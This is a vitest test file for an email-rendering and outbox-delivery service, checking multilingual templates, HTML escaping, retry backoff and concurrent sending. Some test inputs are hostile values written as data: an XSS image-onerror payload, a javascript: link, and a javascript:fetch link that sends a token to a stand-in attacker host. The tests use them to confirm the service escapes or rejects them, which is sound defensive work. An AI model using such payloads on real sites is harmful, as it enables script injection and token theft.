import { inflateSync } from 'node:zlib';
import { LANGUAGES } from '@app/contracts';
import { COMPANY, intlFor, type MessageId, PRODUCT_NAME } from '@app/i18n';
import { tokens } from '@app/ui/brand';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { ASYNC_UTIL_TIMEOUT_MS } from '../../../../test-timeouts.ts';
import type { Database } from '../../src/db/database.js';
import type { BillingMailTemplate } from '../../src/mail/billing-templates.js';
import { LOGO_PIXELS } from '../../src/mail/logo-png.js';
import { enqueueMail, type MailTemplate } from '../../src/mail/outbox.js';
import {
  type OutboxLog,
  type OutboxWorker,
  retryDelaySeconds,
  startOutboxWorker,
} from '../../src/mail/outbox-worker.js';
import { escapeHtml, LOGO_CID, MailRenderError, renderMail } from '../../src/mail/render.js';
import { MAIL_TEMPLATES } from '../../src/mail/templates.js';
import { closedPortUrl, startSmtpServer, type TestSmtpServer } from '../helpers/smtp-server.js';
import { TEST_CONFIG } from '../helpers/test-app.js';
import { openTestDatabase } from '../helpers/test-database.js';

const LINK = 'http://localhost:3000/api/authentication/confirm-email?token=Tok3n-secret_value&lang=de';
/** The account mails; the billing ones take other params and have their own test (billing-mails.test.ts). */
const TEMPLATES = MAIL_TEMPLATES.filter(
  (template): template is Exclude<MailTemplate, BillingMailTemplate> => !template.startsWith('billing_'),
);
const PARAMS = {
  link: LINK,
  inviter: 'owner@praxis.ch',
  secondaryLink: 'http://localhost:3000/forgot-password',
  failures: '3',
  browser: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/131.0',
  address: '203.0.113.9',
  days: '3',
  date: '2026-12-04T09:30:00.000Z',
};

// ---------------------------------------------------------------------------------------------
// A just-enough MIME reader for what nodemailer sends (one multipart/alternative with a text and
// an html part).

function splitHeaders(part: string): { headers: Map<string, string>; body: string } {
  const end = part.indexOf('\r\n\r\n');
  const head = part.slice(0, end).replace(/\r\n[ \t]+/g, ' ');
  const headers = new Map<string, string>();
  for (const line of head.split('\r\n')) {
    const colon = line.indexOf(':');
    headers.set(line.slice(0, colon).toLowerCase(), line.slice(colon + 1).trim());
  }
  return { headers, body: part.slice(end + 4) };
}

function decodeQuotedPrintable(body: string): string {
  const bytes = body
    .replace(/=\r\n/g, '')
    .replace(/=([0-9A-F]{2})/g, (_match, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));
  return Buffer.from(bytes, 'latin1').toString('utf8');
}

function decodeBody(headers: Map<string, string>, body: string): string {
  const encoding = headers.get('content-transfer-encoding')?.toLowerCase();
  if (encoding === 'quoted-printable') return decodeQuotedPrintable(body);
  if (encoding === 'base64') return Buffer.from(body, 'base64').toString('utf8');
  return body;
}

/** RFC 2047 encoded words, which nodemailer uses for a subject with non-ASCII letters. */
function decodeHeader(value: string): string {
  return value
    .replace(/\?=\s+=\?/g, '?==?')
    .replace(/=\?utf-8\?([bq])\?([^?]*)\?=/gi, (_match, kind: string, data: string) =>
      kind.toLowerCase() === 'b'
        ? Buffer.from(data, 'base64').toString('utf8')
        : decodeQuotedPrintable(data.replace(/_/g, ' ')),
    );
}

/** The leaves of a multipart body: its text parts, and the parts inside a nested multipart. */
function leavesOf(
  headers: Map<string, string>,
  body: string,
): { headers: Map<string, string>; body: string }[] {
  const boundary = /boundary="?([^";]+)"?/.exec(headers.get('content-type') ?? '')?.[1];
  if (!headers.get('content-type')?.startsWith('multipart/') || !boundary) return [{ headers, body }];
  return body
    .split(`--${boundary}`)
    .slice(1, -1)
    .map((part) => splitHeaders(part.replace(/^\r\n/, '')))
    .flatMap((part) => leavesOf(part.headers, part.body));
}

/**
 * One multipart/alternative with a text part and an html part; the html part comes inside a
 * multipart/related with the logo it shows (`cid:`).
 */
function parseMail(raw: string): {
  subject: string;
  text: string;
  html: string;
  headers: Map<string, string>;
  images: Map<string, string>[];
} {
  const { headers, body } = splitHeaders(raw);
  if (!headers.get('content-type')?.startsWith('multipart/alternative')) {
    throw new Error(`expected multipart/alternative, got ${headers.get('content-type')}`);
  }
  const parts = leavesOf(headers, body);
  const partOf = (type: string) => {
    const part = parts.find(({ headers: partHeaders }) => partHeaders.get('content-type')?.startsWith(type));
    if (!part) throw new Error(`no ${type} part`);
    return decodeBody(part.headers, part.body).replace(/\r\n$/, '');
  };
  return {
    subject: decodeHeader(headers.get('subject') ?? ''),
    text: partOf('text/plain').replace(/\r\n/g, '\n'),
    html: partOf('text/html'),
    headers,
    images: parts
      .filter((part) => part.headers.get('content-type')?.startsWith('image/'))
      .map((part) => part.headers),
  };
}

// ---------------------------------------------------------------------------------------------

interface LogEntry {
  level: 'info' | 'warn' | 'error';
  details: object;
  message: string;
}

function recordingLog(): OutboxLog & { entries: LogEntry[] } {
  const entries: LogEntry[] = [];
  return {
    entries,
    info: (details, message) => entries.push({ level: 'info', details, message }),
    warn: (details, message) => entries.push({ level: 'warn', details, message }),
    error: (details, message) => entries.push({ level: 'error', details, message }),
  };
}

let db: Database;
let smtp: TestSmtpServer;
const workers: OutboxWorker[] = [];

/** A worker whose own loop stays idle during a test: the test drives it with drain(). */
function worker(smtpUrl: string, log: OutboxLog = recordingLog(), intervalMs = 60 * 60 * 1000): OutboxWorker {
  const started = startOutboxWorker({
    db,
    config: { smtpUrl, mailFrom: TEST_CONFIG.mailFrom },
    log,
    intervalMs,
  });
  workers.push(started);
  return started;
}

interface OutboxRow {
  recipient: string;
  attempts: number;
  sent: boolean;
  last_error: string | null;
  /** Seconds from now until the row is due again (negative when due). */
  due_in: number;
}

async function outboxRows(): Promise<OutboxRow[]> {
  const { rows } = await db.query<OutboxRow>(
    `select recipient, attempts, sent_at is not null as sent, last_error,
            extract(epoch from next_attempt_at - now())::float8 as due_in
       from mail_outbox order by id`,
  );
  return rows;
}

const makeDue = () => db.query('update mail_outbox set next_attempt_at = now() where sent_at is null');

beforeAll(async () => {
  db = await openTestDatabase();
});
afterAll(async () => {
  await db.close();
});
beforeEach(async () => {
  smtp = await startSmtpServer();
  await db.query('delete from mail_outbox');
});
afterEach(async () => {
  await Promise.all(workers.splice(0).map((started) => started.stop()));
  await smtp.close();
});

describe('renderMail', () => {
  it.each(LANGUAGES.flatMap((language) => TEMPLATES.map((template) => [language, template] as const)))(
    'renders %s %s from the catalogue, with the link in both parts',
    (language, template) => {
      const mail = renderMail(template, language, PARAMS);
      const key = {
        email_confirmation: 'confirmation',
        password_reset: 'passwordReset',
        invitation: 'invitation',
        invitation_existing_account: 'invitation',
        account_exists: 'accountExists',
        signin_link: 'signinLink',
        new_signin: 'newSignin',
        trial_reminder: 'trialReminder',
        account_deletion: 'accountDeletion',
        seat_ended: 'seatEnded',
      }[template];
      expect(mail.subject).toBe(
        intlFor(language).formatMessage(
          { id: `email.${key}.subject` as MessageId },
          { product: PRODUCT_NAME, inviter: PARAMS.inviter, days: 3 },
        ),
      );
      // A missing id would show up raw.
      expect(`${mail.text}${mail.html}`).not.toMatch(/email\.[a-zA-Z]+\./);
      expect(mail.text.split('\n')).toContain(LINK);
      expect(mail.html).toContain(`href="${escapeHtml(LINK)}"`);
      expect(mail.html).toContain(`<html lang="${language}">`);
    },
  );

  it.each(TEMPLATES)(
    '%s says whose mail it is: the product, its logo, the company and its address',
    (template) => {
      const mail = renderMail(template, 'fr', PARAMS);
      const footer = `${PRODUCT_NAME} est un service de ${COMPANY.name}, ${COMPANY.street}, ${COMPANY.postalCode} ${COMPANY.city}, Suisse.`;
      for (const part of [mail.text, mail.html]) {
        expect(part).toContain(PRODUCT_NAME);
        expect(part).toContain(footer);
      }
      // Signed by the company, not by an anonymous team.
      expect(mail.text).toContain(`Meilleures salutations\n${COMPANY.name}\n`);
      expect(mail.html).toContain(`<img src="cid:${LOGO_CID}"`);
      expect(mail.attachments).toEqual([
        expect.objectContaining({ cid: LOGO_CID, contentType: 'image/png' }),
      ]);
    },
  );

  it("takes its colours from the site's design tokens", () => {
    const { html } = renderMail('email_confirmation', 'en', PARAMS);
    expect(html).toContain(`background-color:${tokens.color.brand};color:${tokens.color.onBrand}`);
    expect(html).toContain(`color:${tokens.color.textMuted}`);
    // The blue of the first mails, which was no colour of the site.
    expect(html).not.toContain('#0b5cad');
  });

  it('draws the logo mark as a PNG: the brand square, the white microphone, transparent corners', () => {
    const [logo] = renderMail('email_confirmation', 'en', PARAMS).attachments;
    const png = logo?.content ?? Buffer.alloc(0);
    expect(png.subarray(1, 4).toString('ascii')).toBe('PNG');
    expect([png.readUInt32BE(16), png.readUInt32BE(20)]).toEqual([LOGO_PIXELS, LOGO_PIXELS]);
    const idatLength = png.readUInt32BE(33);
    const pixels = inflateSync(png.subarray(41, 41 + idatLength));
    const rowLength = 1 + LOGO_PIXELS * 4;
    const at = (x: number, y: number) => [
      ...pixels.subarray(y * rowLength + 1 + x * 4, y * rowLength + 5 + x * 4),
    ];
    const brand = tokens.color.brand.match(/[0-9a-f]{2}/g)?.map((hex) => Number.parseInt(hex, 16));
    expect(at(0, 0)[3]).toBe(0);
    // On the grid of 32: (6, 6) is brand, (16, 12) the microphone's head.
    expect(at(18, 18)).toEqual([...(brand ?? []), 255]);
    expect(at(48, 36)).toEqual([255, 255, 255, 255]);
  });

  it('reminds a Free account in its language how many days its trial has left, and when it ends', () => {
    const mail = renderMail('trial_reminder', 'de', PARAMS);
    expect(mail.subject).toBe(`Ihre Testphase bei ${PRODUCT_NAME} endet in 3 Tagen`);
    expect(mail.text).toContain('endet am 4. Dezember 2026.');
    expect(renderMail('trial_reminder', 'it', { ...PARAMS, days: '1' }).subject).toBe(
      `La sua prova gratuita di ${PRODUCT_NAME} termina domani`,
    );
  });

  it('tells the owner of an address that it already has an account, with sign-in and reset links', () => {
    const mail = renderMail('account_exists', 'de', PARAMS);
    expect(mail.subject).toBe('Sie haben bereits ein Konto');
    expect(mail.text.split('\n')).toEqual(expect.arrayContaining([LINK, PARAMS.secondaryLink]));
    expect(mail.html).toContain(`href="${PARAMS.secondaryLink}"`);
  });

  it('says in the sign-in link mail how many wrong passwords were tried, and how long the link lives', () => {
    expect(renderMail('signin_link', 'en', PARAMS).text).toContain(
      'In the last 24 hours, 3 wrong passwords were tried on your account; they were refused.',
    );
    expect(renderMail('signin_link', 'fr', { ...PARAMS, failures: '0' }).text).toContain(
      'Aucun mot de passe erroné',
    );
    expect(renderMail('signin_link', 'it', PARAMS).text).toContain('valido per 15 minuti');
  });

  it('names the new browser and its address in the new sign-in mail', () => {
    const mail = renderMail('new_signin', 'it', PARAMS);
    expect(mail.text).toContain(`${PARAMS.browser}, dall'indirizzo di rete 203.0.113.9`);
  });

  it('states how long each link is valid, from the tokens lifetimes', () => {
    expect(renderMail('email_confirmation', 'en', PARAMS).text).toContain('It is valid for 7 days.');
    expect(renderMail('invitation', 'de', PARAMS).text).toContain('Der Link ist 7 Tage gültig.');
    expect(renderMail('password_reset', 'fr', PARAMS).text).toContain('Il est valable 1 heure');
  });

  it('escapes every param in the HTML and keeps them as typed in the text', () => {
    const link = 'https://example.ch/create-password/t0k3n/a%40b.ch?x=1&y="2"&z=<b>';
    const inviter = '<img src=x onerror=alert(1)>"&\'@praxis.ch';
    const mail = renderMail('invitation', 'en', { link, inviter });
    expect(mail.html).not.toContain('<img src=x');
    expect(mail.html).toContain(
      `&lt;img src=x onerror=alert(1)&gt;&quot;&amp;&#39;@praxis.ch has invited you to use ${PRODUCT_NAME}`,
    );
    expect(mail.html).toContain(
      'href="https://example.ch/create-password/t0k3n/a%40b.ch?x=1&amp;y=&quot;2&quot;&amp;z=&lt;b&gt;"',
    );
    expect(mail.text).toContain(`${inviter} has invited you to use ${PRODUCT_NAME}`);
    expect(mail.text.split('\n')).toContain(link);
  });

  it.each([
    ['an unknown template', 'newsletter', { link: LINK }, /unknown mail template "newsletter"/],
    ['no link', 'email_confirmation', {}, /invalid params .*: link/],
    ['a javascript: link', 'password_reset', { link: 'javascript:alert(1)' }, /invalid params .*: link/],
    ['an invitation without inviter', 'invitation', { link: LINK }, /invalid params .*: inviter/],
    [
      'a trial reminder without its date',
      'trial_reminder',
      { link: LINK, days: '3' },
      /invalid params .*: date/,
    ],
    ['params that are not an object', 'email_confirmation', 'oops', /invalid params/],
  ])('refuses %s', (_case, template, params, message) => {
    expect(() => renderMail(template, 'en', params)).toThrow(MailRenderError);
    expect(() => renderMail(template, 'en', params)).toThrow(message);
  });

  it('never puts the link in an error message', () => {
    const link = 'javascript:fetch("https://evil.example/?Tok3n")';
    expect(() => renderMail('password_reset', 'en', { link })).toThrow(MailRenderError);
    expect(() => renderMail('password_reset', 'en', { link })).not.toThrow(/Tok3n|evil/);
  });
});

describe('retryDelaySeconds', () => {
  it.each([
    [1, 10],
    [2, 20],
    [3, 40],
    [9, 2560],
    [10, 3600],
    [1000, 3600],
  ])('waits after %i failures %i seconds', (failures, seconds) => {
    expect(retryDelaySeconds(failures)).toBe(seconds);
  });
});

describe('the outbox worker', () => {
  it('delivers a German confirmation mail with a text and an html part', async () => {
    await enqueueMail(db, {
      to: 'anna.muster@praxis.ch',
      lang: 'de',
      template: 'email_confirmation',
      params: { link: LINK },
    });
    const log = recordingLog();

    expect(await worker(smtp.url, log).drain()).toEqual({ sent: 1, failed: 0 });

    expect(smtp.received).toHaveLength(1);
    const [delivered] = smtp.received;
    expect(delivered?.from).toBe(TEST_CONFIG.mailFrom);
    expect(delivered?.to).toEqual(['anna.muster@praxis.ch']);
    const mail = parseMail(delivered?.raw ?? '');
    expect(mail.subject).toBe(`Bitte bestätigen Sie Ihre E-Mail-Adresse für ${PRODUCT_NAME}`);
    expect(mail.headers.get('auto-submitted')).toBe('auto-generated');
    // The logo travels with the mail, named as the html part names it.
    expect(mail.images.map((image) => image.get('content-id'))).toEqual([`<${LOGO_CID}>`]);
    expect(mail.text.split('\n')).toContain(LINK);
    expect(mail.text).toContain('Guten Tag');
    expect(mail.text).toContain('Freundliche Grüsse');
    // The link's `&` is escaped in the href, and the button and the plain copy both carry it.
    expect(mail.html.match(/href="([^"]*)"/g)).toEqual([
      `href="${LINK.replace('&', '&amp;')}"`,
      `href="${LINK.replace('&', '&amp;')}"`,
    ]);
    expect(mail.html).toContain('>E-Mail-Adresse bestätigen</a>');
    expect(mail.html).toContain('<html lang="de">');

    expect(await outboxRows()).toEqual([
      expect.objectContaining({
        recipient: 'anna.muster@praxis.ch',
        attempts: 0,
        sent: true,
        last_error: null,
      }),
    ]);
    expect(log.entries).toEqual([
      {
        level: 'info',
        details: { template: 'email_confirmation', domain: 'praxis.ch' },
        message: 'mail sent',
      },
    ]);
  });

  it('delivers an invitation with the inviter escaped in the html part', async () => {
    await enqueueMail(db, {
      to: 'colleague@praxis.ch',
      lang: 'fr',
      template: 'invitation',
      params: {
        link: 'http://localhost:3000/create-password/abc/colleague%40praxis.ch',
        inviter: '<b>boss</b>@x.ch',
      },
    });

    expect(await worker(smtp.url).drain()).toEqual({ sent: 1, failed: 0 });

    const mail = parseMail(smtp.received[0]?.raw ?? '');
    // The subject names the inviter too, as text: a subject has no markup to escape.
    expect(mail.subject).toBe(`<b>boss</b>@x.ch vous invite à utiliser ${PRODUCT_NAME}`);
    expect(mail.html).toContain('&lt;b&gt;boss&lt;/b&gt;@x.ch vous invite');
    expect(mail.html).not.toContain('<b>boss');
    expect(mail.text).toContain('<b>boss</b>@x.ch vous invite');
  });

  it('keeps a mail the SMTP server could not take, retries it later and then delivers it once', async () => {
    await enqueueMail(db, {
      to: 'anna.muster@praxis.ch',
      lang: 'de',
      template: 'email_confirmation',
      params: { link: LINK },
    });
    const log = recordingLog();
    const down = worker(await closedPortUrl(), log);

    expect(await down.drain()).toEqual({ sent: 0, failed: 1 });
    const [failed] = await outboxRows();
    expect(failed).toMatchObject({ attempts: 1, sent: false, last_error: expect.any(String) });
    expect(failed?.due_in).toBeGreaterThan(5);
    expect(failed?.due_in).toBeLessThanOrEqual(10);
    expect(log.entries).toEqual([
      {
        level: 'warn',
        details: expect.objectContaining({
          template: 'email_confirmation',
          domain: 'praxis.ch',
          attempts: 1,
          retryInSeconds: 10,
        }),
        message: 'mail not sent',
      },
    ]);
    // The link holds a token and the address is personal: neither reaches the logs.
    expect(JSON.stringify(log.entries)).not.toMatch(/Tok3n|anna\.muster/);

    // A second failure waits twice as long.
    await makeDue();
    expect(await down.drain()).toEqual({ sent: 0, failed: 1 });
    const [again] = await outboxRows();
    expect(again).toMatchObject({ attempts: 2, sent: false });
    expect(again?.due_in).toBeGreaterThan(15);
    expect(again?.due_in).toBeLessThanOrEqual(20);

    // The server is up, but the row is not due yet.
    const up = worker(smtp.url);
    expect(await up.drain()).toEqual({ sent: 0, failed: 0 });
    expect(smtp.received).toHaveLength(0);

    await makeDue();
    expect(await up.drain()).toEqual({ sent: 1, failed: 0 });
    expect(await up.drain()).toEqual({ sent: 0, failed: 0 });
    expect(smtp.received).toHaveLength(1);
    expect(await outboxRows()).toEqual([
      expect.objectContaining({ attempts: 2, sent: true, last_error: null }),
    ]);
  });

  it('delivers each mail once when two workers drain at the same time', async () => {
    const recipients = Array.from({ length: 25 }, (_, index) => `doctor${index}@praxis.ch`);
    for (const to of recipients) {
      await enqueueMail(db, { to, lang: 'it', template: 'password_reset', params: { link: LINK } });
    }

    const results = await Promise.all([worker(smtp.url).drain(), worker(smtp.url).drain()]);

    expect(results.reduce((sum, result) => sum + result.sent, 0)).toBe(25);
    expect(results.every((result) => result.failed === 0)).toBe(true);
    expect(smtp.received.flatMap((mail) => mail.to).sort()).toEqual([...recipients].sort());
    expect((await outboxRows()).every((row) => row.sent && row.attempts === 0)).toBe(true);
  });

  it('goes on with the other mails when one row cannot be rendered', async () => {
    await db.query(
      `insert into mail_outbox (recipient, lang, template, params) values ('x@praxis.ch', 'en', 'newsletter', '{}')`,
    );
    await enqueueMail(db, {
      to: 'ok@praxis.ch',
      lang: 'en',
      template: 'password_reset',
      params: { link: LINK },
    });
    const log = recordingLog();

    expect(await worker(smtp.url, log).drain()).toEqual({ sent: 1, failed: 1 });

    expect(smtp.received.map((mail) => mail.to)).toEqual([['ok@praxis.ch']]);
    expect(await outboxRows()).toEqual([
      expect.objectContaining({
        recipient: 'x@praxis.ch',
        attempts: 1,
        sent: false,
        last_error: 'unknown mail template "newsletter"',
      }),
      expect.objectContaining({ recipient: 'ok@praxis.ch', sent: true }),
    ]);
    expect(log.entries.map((entry) => entry.level).sort()).toEqual(['error', 'info']);
  });

  it('sends on its own every interval until stopped', async () => {
    const running = worker(smtp.url, recordingLog(), 20);
    await enqueueMail(db, {
      to: 'first@praxis.ch',
      lang: 'en',
      template: 'password_reset',
      params: { link: LINK },
    });

    await vi.waitFor(() => expect(smtp.received).toHaveLength(1), {
      timeout: ASYNC_UTIL_TIMEOUT_MS,
      interval: 20,
    });

    await running.stop();
    await enqueueMail(db, {
      to: 'second@praxis.ch',
      lang: 'en',
      template: 'password_reset',
      params: { link: LINK },
    });
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(smtp.received).toHaveLength(1);
    expect(await outboxRows()).toEqual([
      expect.objectContaining({ recipient: 'first@praxis.ch', sent: true }),
      expect.objectContaining({ recipient: 'second@praxis.ch', sent: false, attempts: 0 }),
    ]);
  });

  it('survives a failing database and logs it without stopping', async () => {
    const log = recordingLog();
    const failing: Database = {
      ...db,
      query: () => Promise.reject(new Error('connection terminated')),
    };
    const started = startOutboxWorker({
      db: failing,
      config: { smtpUrl: smtp.url, mailFrom: TEST_CONFIG.mailFrom },
      log,
      intervalMs: 10,
    });
    workers.push(started);

    await vi.waitFor(() => expect(log.entries.length).toBeGreaterThanOrEqual(2), {
      timeout: ASYNC_UTIL_TIMEOUT_MS,
      interval: 10,
    });

    expect(log.entries[0]).toEqual({
      level: 'error',
      details: { error: 'connection terminated' },
      message: 'mail outbox pass failed',
    });
    await expect(started.drain()).rejects.toThrow('connection terminated');
  });
});
